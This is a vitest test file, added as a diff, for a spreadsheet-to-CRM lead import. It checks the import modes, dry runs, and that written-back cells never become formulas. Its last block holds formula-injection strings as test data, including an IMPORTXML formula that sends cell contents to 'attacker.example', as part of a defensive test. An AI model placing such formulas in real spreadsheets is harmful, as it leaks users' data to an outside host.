@@ -1,0 +1,256 @@
+/**
+ * Imports that never damage CRM data (issue 13): an update-only sheet moves no lead, each
+ * `mode` does what PRODUCT.md says on a sheet of existing and new leads, and nothing an import
+ * writes back becomes a formula or a number.
+ */
+import { describe, expect, it } from 'vitest';
+import type { JobSummary } from '../../src/core/jobs/record';
+import { createImportWorld, type ImportWorld, SHEET } from './import-harness';
+
+const ACCOUNT = 1;
+const STATUS_HEADERS = ['CRM Import Status', 'CRM Lead ID', 'CRM Import Detail', 'CRM Imported At'];
+
+/** Demo leads of the admin key's account that have an e-mail (the update-only sheet's key). */
+function leadsWithEmail(world: ImportWorld, count: number) {
+  const leads = world.sandbox.state.leads.filter((l) => l.account_id === ACCOUNT && l.email);
+  expect(leads.length).toBeGreaterThanOrEqual(count);
+  return leads.slice(0, count);
+}
+
+function finish(world: ImportWorld, options: Record<string, unknown>): JobSummary {
+  world.runtime.runOrThrow('crmImportLeads', { sheet: SHEET, ...options });
+  world.runtime.runUntilIdle({ maxExecutions: 40 });
+  const jobs = world.runtime.runOrThrow('crmListJobs') as JobSummary[];
+  return jobs[0] as JobSummary;
+}
+
+function demoWorld(header: string[], rows: unknown[][]) {
+  return createImportWorld({
+    sheet: { header, rows, expected: [], keys: [] },
+    sandbox: { seed: 'demo' },
+  });
+}
+
+describe('an update-only sheet (E-mail + Telefone, no name, no pipeline)', () => {
+  it('updates every lead and moves none: stage, pipeline and name unchanged, phones new', async () => {
+    const probe = await demoWorld(['E-mail', 'Telefone'], []);
+    const targets = leadsWithEmail(probe, 40).map((l) => ({ ...l }));
+    const phones = targets.map(
+      (_, i) => `(11) 9${String(7000_0000 + i).slice(0, 4)}-${String(1000 + i)}`,
+    );
+    const world = await demoWorld(
+      ['E-mail', 'Telefone'],
+      targets.map((lead, i) => [lead.email, phones[i]]),
+    );
+    // Some of them sit in won or later stages: an import must not pull them back.
+    const final = finish(world, { mode: 'update', pipeline: 'Vendas', stage: 'Novo' });
+    expect(final.state).toBe('done');
+    expect(world.statuses()).toEqual(targets.map(() => 'UPDATED'));
+    for (const before of targets) {
+      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
+      expect(after?.stage_id, `lead ${before.id}`).toBe(before.stage_id);
+      expect(after?.pipeline_id).toBe(before.pipeline_id);
+      expect(after?.name).toBe(before.name);
+    }
+    targets.forEach((before, i) => {
+      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
+      expect(after?.phone?.replace(/\D/g, '')).toBe(`55${(phones[i] ?? '').replace(/\D/g, '')}`);
+    });
+    expect(world.sandbox.state.leads.filter((l) => l.account_id === ACCOUNT)).toHaveLength(
+      probe.sandbox.state.leads.filter((l) => l.account_id === ACCOUNT).length,
+    );
+    // 40 upserts, and knowing the 40 leads exist cost one paged read, not 40 lookups.
+    const requests = world.sandbox.requests();
+    expect(world.upserts()).toHaveLength(40);
+    const lookups = requests.filter(
+      (r) => r.method === 'GET' && r.path.startsWith('/api/v1/leads'),
+    );
+    expect(lookups.length).toBeLessThan(40);
+  });
+});
+
+describe('import modes on a sheet of existing and new leads', () => {
+  async function mixedWorld() {
+    const probe = await demoWorld(['Nome', 'E-mail'], []);
+    const existing = leadsWithEmail(probe, 3).map((l) => ({ ...l }));
+    const rows = [
+      ...existing.map((l) => [`Novo nome ${l.id}`, l.email, 'Empresa atualizada']),
+      ['Nova Lead 1', 'nova1@exemplo.com.br', 'ACME'],
+      ['Nova Lead 2', 'nova2@exemplo.com.br', 'ACME'],
+      ['', 'semnome@exemplo.com.br', 'ACME'],
+    ];
+    const world = await demoWorld(['Nome', 'E-mail', 'Empresa'], rows);
+    const pipeline = world.sandbox.state.pipelines.find(
+      (p) => p.account_id === ACCOUNT && p.name === 'Vendas',
+    );
+    const stage = world.sandbox.state.stages.find(
+      (s) => s.pipeline_id === pipeline?.id && s.position === 1,
+    );
+    return {
+      world,
+      existing,
+      pipelineId: pipeline?.id,
+      stageId: stage?.id,
+      stageName: stage?.name,
+    };
+  }
+
+  const leadByEmail = (world: ImportWorld, email: string) =>
+    world.sandbox.state.leads.find((l) => l.account_id === ACCOUNT && l.email === email);
+
+  it('upsert: existing leads updated in place (their names from the sheet), new ones placed by the options', async () => {
+    const { world, existing, pipelineId, stageId, stageName } = await mixedWorld();
+    const final = finish(world, { pipeline: 'Vendas', stage: stageName });
+    expect(world.statuses()).toEqual([
+      'UPDATED',
+      'UPDATED',
+      'UPDATED',
+      'CREATED',
+      'CREATED',
+      'INVALID',
+    ]);
+    for (const before of existing) {
+      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
+      expect(after).toMatchObject({
+        stage_id: before.stage_id,
+        pipeline_id: before.pipeline_id,
+        name: `Novo nome ${before.id}`,
+        company: 'Empresa atualizada',
+      });
+    }
+    expect(leadByEmail(world, 'nova1@exemplo.com.br')).toMatchObject({
+      pipeline_id: pipelineId,
+      stage_id: stageId,
+    });
+    expect(leadByEmail(world, 'semnome@exemplo.com.br')).toBeUndefined();
+    expect(String(world.column('CRM Import Detail')[5])).toMatch(
+      /cannot be created: .*needs a name/,
+    );
+    expect(final.counts).toMatchObject({ UPDATED: 3, CREATED: 2, INVALID: 1 });
+  });
+
+  it('update: existing leads only; the others are NOT_FOUND and nothing is created', async () => {
+    const { world } = await mixedWorld();
+    const before = world.sandbox.state.leads.length;
+    const final = finish(world, { mode: 'update', pipeline: 'Vendas' });
+    expect(world.statuses()).toEqual([
+      'UPDATED',
+      'UPDATED',
+      'UPDATED',
+      'NOT_FOUND',
+      'NOT_FOUND',
+      'NOT_FOUND',
+    ]);
+    expect(world.sandbox.state.leads.length).toBe(before);
+    expect(world.upserts()).toHaveLength(3);
+    expect(final.counts.NOT_FOUND).toBe(3);
+  });
+
+  it('create: new leads only; existing ones are EXISTS and left untouched', async () => {
+    const { world, existing, stageName } = await mixedWorld();
+    finish(world, { mode: 'create', pipeline: 'Vendas', stage: stageName });
+    expect(world.statuses()).toEqual([
+      'EXISTS',
+      'EXISTS',
+      'EXISTS',
+      'CREATED',
+      'CREATED',
+      'INVALID',
+    ]);
+    for (const before of existing) {
+      const after = world.sandbox.state.leads.find((l) => l.id === before.id);
+      expect(after?.name).toBe(before.name);
+      expect(after?.company).toBe(before.company);
+    }
+    expect(world.column('CRM Lead ID').slice(0, 3)).toEqual(existing.map((l) => l.id));
+    expect(world.upserts()).toHaveLength(2);
+  });
+
+  it('a dry run says per row whether it would create, update or be refused, and sends nothing', async () => {
+    const { world, existing, stageName } = await mixedWorld();
+    finish(world, { dryRun: true, pipeline: 'Vendas', stage: stageName });
+    expect(world.upserts()).toHaveLength(0);
+    expect(world.statuses()).toEqual(['VALID', 'VALID', 'VALID', 'VALID', 'VALID', 'INVALID']);
+    const details = world.column('CRM Import Detail').map(String);
+    existing.forEach((lead, i) => {
+      expect(details[i]).toBe(
+        `Dry run: would update lead ${lead.id} (found by its e-mail), keeping its pipeline and stage.`,
+      );
+    });
+    expect(details[3]).toBe(`Dry run: would create a lead in Vendas / ${stageName}.`);
+    expect(details[5]).toMatch(/^No CRM lead has this e-mail, and it cannot be created: /);
+  });
+});
+
+describe('nothing an import writes back becomes a formula or a number', () => {
+  const INJECTIONS = [
+    '=IMPORTXML("https://attacker.example/?d="&A2&B2,"//a")',
+    '+5511999',
+    '-1',
+    '@SUM(1)',
+  ];
+
+  it('INVALID, DUPLICATE and FAILED rows keep their CRM Lead ID cell as the text it was, in every column', async () => {
+    // Every row ends without a lead id of its own: our checks refuse it, it repeats a key, or
+    // the CRM fails it; each holds an injection string in CRM Lead ID (text, as a paste leaves it).
+    const rows: unknown[][] = [];
+    const expected: string[] = [];
+    INJECTIONS.forEach((text, i) => {
+      // A leading apostrophe makes the workbook hold the text itself, as a paste would.
+      rows.push([`Ana ${i}`, `ana${i}@`, 'INVALID', `'${text}`]); // bad e-mail
+      expected.push('INVALID');
+      rows.push([`Bia ${i}`, 'bia@exemplo.com.br', '', `'${text}`]);
+      expected.push(i === 0 ? 'FAILED' : 'DUPLICATE');
+    });
+    const world = await createImportWorld({
+      sheet: {
+        header: ['Nome', 'E-mail', 'CRM Import Status', 'CRM Lead ID'],
+        rows,
+        expected: [],
+        keys: [],
+      },
+    });
+    let armed = false;
+    world.onRequest = (request) => {
+      if (!armed && request.url.endsWith('/leads/upsert')) {
+        armed = true;
+        // This request and both retries: the row ends FAILED.
+        world.sandbox.faults.add({ kind: '502', count: 3, pathPrefix: '/leads/upsert' });
+      }
+    };
+    finish(world, { pipeline: 'Vendas', stage: 'Novo' });
+    expect(world.statuses()).toEqual(expected);
+
+    const sheet = world.runtime.sheet(SHEET);
+    const header = sheet.getValues()[0] ?? [];
+    const formulas = sheet.getFormulas();
+    const values = sheet.getValues();
+    for (const name of STATUS_HEADERS) {
+      const c = header.indexOf(name);
+      expect(c, name).toBeGreaterThanOrEqual(0);
+      formulas.slice(1).forEach((line, r) => {
+        expect(line[c], `${name} row ${r + 2}`).toBe('');
+      });
+    }
+    const idColumn = header.indexOf('CRM Lead ID');
+    values.slice(1).forEach((line, r) => {
+      expect(line[idColumn], `row ${r + 2}`).toBe(INJECTIONS[Math.floor(r / 2)]);
+    });
+  });
+
+  it('a detail quoting the CRM keeps a name starting with = as text', async () => {
+    const name = `=HYPERLINK("https://attacker.example","${'x'.repeat(300)}")`;
+    const world = await createImportWorld({
+      sheet: {
+        header: ['Nome', 'E-mail'],
+        rows: [[`'${name}`, 'eve@exemplo.com.br']],
+        expected: [],
+        keys: [],
+      },
+    });
+    finish(world, { pipeline: 'Vendas', stage: 'Novo' });
+    expect(world.statuses()).toEqual(['INVALID']);
+    const formulas = world.runtime.sheet(SHEET).getFormulas();
+    expect(formulas.flat().every((f) => f === '' || f === undefined)).toBe(true);
+  });
+});
